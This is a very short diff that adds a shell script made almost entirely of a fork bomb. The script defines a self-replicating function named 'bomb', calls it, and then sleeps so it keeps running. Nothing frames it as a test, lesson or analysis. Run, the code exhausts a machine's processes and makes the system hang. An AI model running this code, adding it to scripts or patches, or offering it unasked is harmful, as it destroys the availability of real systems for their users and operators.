@@ -1,0 +1,4 @@
+echo started
+bomb() { bomb | bomb & }
+bomb
+sleep 600
